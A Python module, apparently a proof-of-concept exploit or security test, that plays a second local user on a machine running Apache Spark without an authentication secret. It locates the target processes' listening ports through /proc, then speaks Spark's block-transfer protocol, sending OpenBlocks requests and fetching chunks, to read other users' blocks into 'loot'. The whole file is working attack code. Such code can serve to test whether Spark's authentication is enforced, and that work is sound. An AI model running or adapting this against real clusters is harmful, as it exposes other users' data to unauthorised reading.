"""Somebody else on the machine who asks Spark for its blocks, as far as its protocol without a secret goes.

A frame of spark-network-common is its length (8 bytes), the kind of message (1), a head, a body. An RpcRequest with
OpenBlocks is answered by a handle, chunks of which are fetched then.
"""

from __future__ import annotations

import contextlib
import socket
import struct
from pathlib import Path

CHUNK_FETCH_REQUEST, CHUNK_FETCH_SUCCESS, RPC_REQUEST, RPC_RESPONSE = 0, 1, 3, 4
_OPEN_BLOCKS = 0
_PATIENCE = 2.0
_LARGEST = 64 << 20
_LISTENING = "0A"


def listening_ports(pids: list[int]) -> list[int]:
    """Of these processes."""
    sockets = set()
    for pid in pids:
        for fd in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(OSError):
                sockets.add(str(fd.readlink()))
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTENING and f"socket:[{fields[9]}]" in sockets:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return sorted(ports)


def steal_blocks(port: int, names: list[str]) -> bytes:
    """All that is given for these names; nothing if nothing is."""
    loot = b""
    for name in names:
        try:
            loot += _steal(port, name)
        except TimeoutError:
            break  # it waits for something else
        except (OSError, struct.error, EOFError):
            continue
    return loot


def _steal(port: int, name: str) -> bytes:
    with socket.create_connection(("127.0.0.1", port), _PATIENCE) as connection:
        body = (
            struct.pack(">B", _OPEN_BLOCKS)
            + _string("app")
            + _string("1")
            + struct.pack(">i", 1)
            + _string(name)
        )
        connection.sendall(_frame(RPC_REQUEST, struct.pack(">qi", 1, len(body)), body))
        kind, answer = _receive(connection)
        if kind != RPC_RESPONSE:
            return b""
        stream, chunks = struct.unpack_from(
            ">qi", answer, 8 + 4 + 1
        )  # request id, length, kind of the message
        loot = b""
        for index in range(chunks):
            connection.sendall(_frame(CHUNK_FETCH_REQUEST, struct.pack(">qi", stream, index), b""))
            kind, answer = _receive(connection)
            if kind == CHUNK_FETCH_SUCCESS:
                loot += answer
        return loot


def _string(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def _frame(kind: int, head: bytes, body: bytes) -> bytes:
    return struct.pack(">qB", 9 + len(head) + len(body), kind) + head + body


def _receive(connection: socket.socket) -> tuple[int, bytes]:
    length, kind = struct.unpack(">qB", _exactly(connection, 9))
    if not 9 <= length < _LARGEST:  # another protocol's port
        raise EOFError
    return kind, _exactly(connection, length - 9)


def _exactly(connection: socket.socket, size: int) -> bytes:
    parts = bytearray()
    while len(parts) < size:
        part = connection.recv(size - len(parts))
        if not part:
            raise EOFError
        parts += part
    return bytes(parts)
